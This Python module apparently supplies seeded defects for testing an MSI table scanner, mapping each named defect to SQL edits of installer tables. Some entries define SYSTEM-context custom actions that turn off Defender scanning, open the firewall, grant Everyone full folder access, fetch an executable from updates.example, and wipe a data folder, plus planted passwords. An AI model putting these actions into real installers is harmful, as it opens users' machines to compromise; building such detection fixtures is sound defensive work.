"""Edits of the MSI's tables that Wine does not show, and that a look at the tables does."""

from collections.abc import Iterable

_SEQUENCE = "INSERT INTO `InstallExecuteSequence` (`Action`, `Condition`, `Sequence`) VALUES "
_ACTION = "INSERT INTO `CustomAction` (`Action`, `Type`, `Source`, `Target`) VALUES "
_PROPERTY = "INSERT INTO `Property` (`Property`, `Value`) VALUES "
_REGISTRY = "INSERT INTO `Registry` (`Registry`, `Root`, `Key`, `Name`, `Value`, `Component_`) VALUES "
_NEVER = "BVT_NEVER_SET"
_AS_SYSTEM = 34 + 1024 + 2048
"""A command, deferred, in the system's context."""
_RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"

BY_NAME: dict[str, tuple[str, ...]] = {
    "reboot-property": (_PROPERTY + "('REBOOT', 'Force')",),
    "no-rollback": (_PROPERTY + "('DISABLEROLLBACK', '1')",),
    "finds-nothing": ("DELETE FROM `InstallExecuteSequence` WHERE `Action` = 'FindRelatedProducts'",),
    "never-asks-conditions": ("DELETE FROM `InstallExecuteSequence` WHERE `Action` = 'LaunchConditions'",),
    "autostart-from-everybodys": (
        _REGISTRY
        + rf"('Autostart', 2, '{_RUN}', 'BvtTray', '[CommonAppDataFolder]BVT\tray.exe', 'Settings')",
    ),
    "password-in-tables": ("UPDATE `ServiceInstall` SET `Password` = 'Summer2024'",),
    "secret-to-a-command": (
        # Type 34 with +0x2000: its text is kept out of the log, and is on a command line all the same.
        _ACTION
        + f"('TellSecret', {34 + 0x2000}, 'TARGETDIR', '[System64Folder]cmd.exe /c rem [ENROLSECRET]')",
        _SEQUENCE + f"('TellSecret', '{_NEVER}', 5862)",
    ),
    "secret-read-back": (
        "UPDATE `Property` SET `Value` = 'ENROLSECRET' WHERE `Property` = 'MsiHiddenProperties'",
    ),
    "sweeps-all-files": (_PROPERTY + "('REINSTALLMODE', 'amus')",),
    "narrow-component": ("UPDATE `Component` SET `Attributes` = 0 WHERE `Component` = 'Notice'",),
    "command-opens-its-folder": (
        _ACTION
        + rf"('OpenFolder', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]icacls.exe [INSTALLDIR] /grant Everyone:F')",
        _SEQUENCE + f"('OpenFolder', '{_NEVER}', 5863)",
    ),
    "command-opens-the-firewall": (
        _ACTION
        + f"('OpenDoor', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]netsh.exe advfirewall firewall add rule "
        "name=BVT dir=in action=allow')",
        _SEQUENCE + f"('OpenDoor', '{_NEVER}', 5864)",
    ),
    "command-turns-scans-off": (
        _ACTION
        + f"('NoScans', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]WindowsPowerShell\\v1.0\\powershell.exe "
        "Set-MpPreference -DisableRealtimeMonitoring 1')",
        _SEQUENCE + f"('NoScans', '{_NEVER}', 5865)",
    ),
    "fetches-a-program": (
        _ACTION
        + f"('Fetch', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]curl.exe -O http://updates.example/more.exe')",
        _SEQUENCE + f"('Fetch', '{_NEVER}', 5866)",
    ),
    "nested-installation": (
        _ACTION
        + f"('Nest', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]msiexec.exe /i [INSTALLDIR]more.msi /qn')",
        _SEQUENCE + f"('Nest', '{_NEVER}', 5867)",
    ),
    "never-awaited": (
        _ACTION + f"('Alone', {_AS_SYSTEM + 192}, 'TARGETDIR', '[System64Folder]hostname.exe')",
        _SEQUENCE + f"('Alone', '{_NEVER}', 5868)",
    ),
    "reboots-when-it-fails": (
        "UPDATE `MsiServiceConfigFailureActions` SET `Actions` = '1[~]1[~]2', `Event` = 1",
    ),
    "user-control": (_PROPERTY + "('EnableUserControl', '1')",),
    "password-in-property": (_PROPERTY + "('PROXYPASSWORD', 'Winter2023x')",),
    "shortcut-by-nobody": (
        "INSERT INTO `Shortcut` (`Shortcut`, `Directory_`, `Name`, `Component_`, `Target`) "
        "VALUES ('Status', 'INSTALLDIR', 'Status', 'Settings', 'Agent')",
    ),
    "for-one-user-only": ("DELETE FROM `Property` WHERE `Property` = 'ALLUSERS'",),
    "takes-a-file-type": (
        _REGISTRY + "('TakesType', 0, '.reg', '', 'BvtFile', 'Settings')",
        _REGISTRY + "('OwnType', 0, 'BvtFile', '', 'A file of BVT', 'Settings')",
    ),
    "a-users-key-path": (
        _REGISTRY + r"('Mine', 1, 'Software\BVT\ReferenceAgent', 'there', '1', 'Notice')",
        "UPDATE `Component` SET `Attributes` = 260, `KeyPath` = 'Mine' WHERE `Component` = 'Notice'",
    ),
    "removes-in-between": (
        "UPDATE `InstallExecuteSequence` SET `Sequence` = 4500 WHERE `Action` = 'RemoveExistingProducts'",
    ),
    "finds-in-vain": (
        "UPDATE `Property` SET `Value` = 'NOTHING' WHERE `Property` = 'SecureCustomProperties'",
    ),
    "lets-itself-over-newer": ("DELETE FROM `LaunchCondition`",),
    "wipes-when-replaced": (
        _ACTION + rf"('Wipe', {_AS_SYSTEM + 64}, 'TARGETDIR', "
        r"'[System64Folder]cmd.exe /c rd /s /q [CommonAppDataFolder]BVT\ReferenceAgent')",
        _SEQUENCE + """('Wipe', 'REMOVE="ALL"', 3600)""",
    ),
    "purges-when-replaced": (
        """UPDATE `InstallExecuteSequence` SET `Condition` = 'REMOVE="ALL"' WHERE `Action` = 'Purge'""",
    ),
    # Language is a part of the table's key, which cannot be changed.
    "speaks-another-language": (
        "DELETE FROM `Upgrade` WHERE `ActionProperty` = 'WIX_UPGRADE_DETECTED'",
        "INSERT INTO `Upgrade` (`UpgradeCode`, `VersionMax`, `Language`, `Attributes`, `ActionProperty`) "
        "VALUES ('{6F0C2D0E-4A34-4C55-9D8B-2B5B8E1F7A10}', '1.0.0', '1031', 1, 'WIX_UPGRADE_DETECTED')",
    ),
    "path-from-everybodys": (
        "CREATE TABLE `Environment` (`Environment` CHAR(72) NOT NULL, `Name` CHAR(255) NOT NULL LOCALIZABLE, "
        "`Value` CHAR(255) LOCALIZABLE, `Component_` CHAR(72) NOT NULL PRIMARY KEY `Environment`)",
        "INSERT INTO `Environment` (`Environment`, `Name`, `Value`, `Component_`) "
        r"VALUES ('Path', '=-*Path', '[~];[CommonAppDataFolder]BVT\tools', 'Notice')",
        _SEQUENCE + "('WriteEnvironmentStrings', '', 5200)",
        _SEQUENCE + "('RemoveEnvironmentStrings', '', 3300)",
    ),
    "hash-of-another-file": ("UPDATE `MsiFileHash` SET `HashPart1` = 1 WHERE `File_` = 'NoticeText'",),
    "names-no-file": (
        _REGISTRY
        + r"('Helper', 2, 'Software\BVT\ReferenceAgent', 'Helper', '\"[#HelperExecutable]\" --wait', 'Settings')",
    ),
    "entry-elsewhere": (_PROPERTY + r"('ARPINSTALLLOCATION', 'C:\Program Files\BVT\Agent 0.9')",),
    "entry-of-its-folder": (_PROPERTY + r"('ARPINSTALLLOCATION', 'C:\Program Files\BVT\ReferenceAgent\')",),
    "names-a-file-that-is-there": (
        _REGISTRY
        + r"('There', 2, 'Software\BVT\ReferenceAgent', 'Program', '\"[#AgentExecutable]\"', 'Settings')",
    ),
    "starts-too-early": (
        "UPDATE `InstallExecuteSequence` SET `Sequence` = 5950 WHERE `Action` = 'WriteRegistryValues'",
    ),
    "deferred-outside": (
        _ACTION + f"('TooLate', {_AS_SYSTEM}, 'TARGETDIR', '[System64Folder]hostname.exe')",
        _SEQUENCE + f"('TooLate', '{_NEVER}', 6700)",
    ),
    "leads-to-no-row": (
        _ACTION + f"('Missing', {18 + 1024 + 2048}, 'HelperExecutable', '--register')",
        _SEQUENCE + f"('Missing', '{_NEVER}', 5869)",
    ),
    "of-no-feature": (
        "INSERT INTO `Component` (`Component`, `ComponentId`, `Directory_`, `Attributes`, `Condition`, `KeyPath`) "
        "VALUES ('Forgotten', '{2C8D3B1A-5E64-4A0E-9C6B-7D1F20A3B4C5}', 'INSTALLDIR', 260, '', 'ForgottenValue')",
        _REGISTRY + r"('ForgottenValue', 2, 'Software\BVT\ReferenceAgent', 'Proxy', 'none', 'Forgotten')",
    ),
    # Of a part whose condition never holds: an installer that came to it would end with an error (1334).
    "on-no-medium": (
        "INSERT INTO `Component` (`Component`, `ComponentId`, `Directory_`, `Attributes`, `Condition`, `KeyPath`) "
        "VALUES ('Seldom', '{2C8D3B1A-5E64-4A0E-9C6B-7D1F20A3B4C6}', 'INSTALLDIR', 256, "
        "'BVT_NEVER_SET', 'SeldomFile')",
        "INSERT INTO `File` (`File`, `Component_`, `FileName`, `FileSize`, `Attributes`, `Sequence`) "
        "VALUES ('SeldomFile', 'Seldom', 'seldom.dat', 5, 512, 9)",
        "INSERT INTO `FeatureComponents` (`Feature_`, `Component_`) VALUES ('Agent', 'Seldom')",
    ),
    "nobody-makes-it": ("DELETE FROM `Property` WHERE `Property` = 'Manufacturer'",),
    "service-stays-by-table": (
        "UPDATE `ServiceControl` SET `Event` = 3 WHERE `ServiceControl` = 'AgentControl'",
    ),
}
"""Defect → its SQL."""


def edits(defects: frozenset[str]) -> Iterable[str]:
    """The SQL for those of the defects that are made here."""
    for name in sorted(defects & BY_NAME.keys()):
        yield from BY_NAME[name]
